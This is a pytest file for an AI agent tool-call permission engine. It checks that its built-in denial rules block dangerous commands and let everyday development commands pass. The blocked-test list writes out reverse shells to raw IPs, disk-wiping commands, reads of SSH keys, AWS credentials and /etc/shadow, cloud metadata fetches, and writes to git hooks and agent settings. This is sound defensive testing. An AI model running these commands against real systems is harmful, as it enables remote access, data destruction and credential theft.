"""Walks the built-in denials: each catches what it says, and lets the everyday pass (POL-4)."""

from __future__ import annotations

import pytest

from cellwall.core.verdict import Decision, Verdict
from cellwall.policy.engine import Policy, check_examples
from cellwall.policy.policy_file import builtin_rules
from cellwall.policy.rules import Layer, Rule, Source
from cellwall.policy.subjects import only_itself

CWD, HOME = "/home/u/app", "/home/u"
TEXTS = {rule.text for rule in builtin_rules()}
TOOLS = ("Bash", "Read", "Write", "WebFetch", "WebSearch", "Code", "mcp__git")
ALL = Policy(Rule(Verdict.ALLOW, tool, None, Source("all.toml", 1), Layer.USER) for tool in TOOLS)


def check(text: str) -> Decision:
    return ALL.check(text, cwd=CWD, home=HOME, links=only_itself)


@pytest.mark.requirement("POL-4", "POL-6")
@pytest.mark.parametrize("rule", builtin_rules(), ids=lambda rule: rule.text)
def test_a_denial_does_what_its_examples_say(rule: Rule) -> None:
    check_examples([rule])


@pytest.mark.parametrize(
    "text",
    [
        "Bash(git status)", "Bash(git push origin main)", "Bash(git commit -m x)",
        "Bash(git config user.name x)", "Bash(npm ci)", "Bash(npm run build)", "Bash(make install)",
        "Bash(docker compose up -d)", "Bash(docker build -t x .)", "Bash(docker ps)",
        "Bash(docker run --rm -v ./data:/data alpine ls)", "Bash(docker run -p 80:80 nginx)",
        "Bash(rm -rf build)", "Bash(rm -rf ./node_modules)", "Bash(rm -rf /tmp/x)", "Bash(rm a b)",
        "Bash(find . -name *.pyc -delete)", "Bash(find /tmp/x -delete)", "Bash(find / -name x)",
        "Bash(chmod +x run.sh)", "Bash(chmod 644 f)", "Bash(chmod -R 755 build)",
        "Bash(chown -R me:me build)", "Bash(dd if=/dev/zero of=disk.img bs=1M count=10)",
        "Bash(kill 1234)", "Bash(kill -9 1234)", "Bash(systemctl status nginx)", "Bash(date +%s)",
        "Bash(history)", "Bash(nc -zv localhost 5432)", "Bash(gpg --verify x.asc)",
        "Bash(kubectl get pods)", "Bash(gh pr create)", "Bash(aws s3 ls)", "Bash(cat at)",
        "Bash(journalctl -u x)", "Bash(sysctl -a)", "Bash(timedatectl)", "Bash(pip install x)",
        "Read(src/main.py)", "Read(.env.example)", "Read(/etc/hosts)", "Read(/etc/passwd)",
        "Read(/proc/cpuinfo)", "Read(/proc/self/status)", "Read(~/.gitconfig)", "Read(.npmrc)",
        "Read(/usr/include/stdio.h)", "Read(.git/config)", "Read(.git/hooks/pre-commit)",
        "Write(src/main.py)", "Write(.gitignore)", "Write(.github/workflows/ci.yml)",
        "Write(/tmp/x)", "Write(.vscode/extensions.json)", "Write(.claude/agents/x.md)",
        "Write(/usr/src/app/x.py)", "Write(etc/x)", "Write(dev/x)", "Write(settings.json)",
        "Glob(**/*.py)", "Grep(src)", "LS(.)", "WebFetch(https://docs.python.org/3/)",
        "Code(python)", "mcp__git__status", "WebSearch(x)",
    ],
)  # fmt: skip
def test_everyday_work_is_not_hit(text: str) -> None:
    found = check(text)
    assert [part.rule for part in (found, *found.parts) if part.rule in TEXTS] == []


@pytest.mark.requirement("POL-4")
@pytest.mark.parametrize(
    "text",
    [
        "Bash(/usr/bin/sudo ls)", "Bash(rm -fr /)", "Bash(rm -r -f -v /)", "Bash(rm -R /)",
        "Bash(rm --force --recursive /)", "Bash(rm -rf build /)", "Bash(mkfs.ext4 /dev/sda1)",
        "Bash(docker run -it --rm --privileged alpine)", "Bash(nc 10.0.0.1 4444 -e /bin/sh)",
        "Bash(chmod u+s x)", "Bash(socat TCP:1.2.3.4:5 EXEC:sh)", "Bash(crontab -)",
        "Bash(systemctl --user enable x)", "Bash(dd if=x of=/dev/nvme0n1)",
        "Read(~/.ssh/id_rsa)", "Read(/home/u/.ssh/id_rsa)", "Read(../.ssh/id_rsa)",
        "Grep(~/.aws/credentials)", "LS(~/.ssh)", "Glob(~/.ssh/*)", "Read(/proc/1/environ)",
        "Read(/proc/self/root/etc/hosts)", "Read(/etc//shadow)", "Read(/etc/./x/../shadow)",
        "Edit(~/.bashrc)", "MultiEdit(/etc/hosts)", "Write(.git/hooks/pre-commit)",
        "Write(sub/.git/config)", "Write(.claude/settings.local.json)", "Edit(.mcp.json)",
        "Write(.vscode/tasks.json)", "Write(/dev/sda)", "Write(~/.config/cellwall/config.toml)",
        "Write(/usr/local/bin/ls)", "WebFetch(http://169.254.169.254/latest/)",
        "WebFetch(http://METADATA.google.internal./)",
    ],
)  # fmt: skip
def test_what_is_dangerous_is_hit(text: str) -> None:
    found = check(text)
    assert found.verdict is Verdict.DENY
    assert any(part.rule in TEXTS for part in (found, *found.parts))
